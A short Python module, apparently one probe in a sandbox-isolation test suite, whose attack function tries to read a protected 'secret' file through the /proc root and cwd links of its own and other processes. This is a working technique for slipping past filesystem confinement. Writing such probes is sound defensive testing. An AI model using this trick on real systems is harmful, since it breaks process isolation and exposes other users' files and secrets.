"""Reaches the secret through the root or the working folder of its own or another process."""

from child import any_of


def attack(path, pids):
    ways = [f"/proc/{pid}/{name}{path}" for pid in ("self", *pids) for name in ("root", "cwd")]
    return any_of(*(lambda way=way: read(way) for way in ways))


def read(path):
    with open(path, "rb") as file:
        return file.read(64).hex()
